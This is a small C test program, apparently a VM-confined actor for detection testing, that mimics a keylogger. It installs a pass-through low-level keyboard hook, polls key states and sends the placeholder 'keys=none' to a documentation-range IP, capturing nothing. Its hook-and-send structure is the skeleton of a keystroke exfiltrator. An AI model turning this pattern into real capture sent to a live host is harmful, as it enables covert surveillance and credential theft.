#include "tests/vm/actors/win/actor.h"

static LRESULT CALLBACK
hear(int code, WPARAM w, LPARAM l)
{
	return CallNextHookEx(NULL, code, w, l);
}

/* Watches the keyboard and sends what it has heard: nothing. */
int
main(void)
{
	actor_only_in_guest();
	(void)SetWindowsHookExA(
	    WH_KEYBOARD_LL, hear, GetModuleHandleA(NULL), 0);
	for (int key = 8; key < 255; key++)
		(void)GetAsyncKeyState(key);
	(void)actor_send("198.51.100.66", 80, "keys=none\r\n", 11, NULL, 0);
	return 0;
}
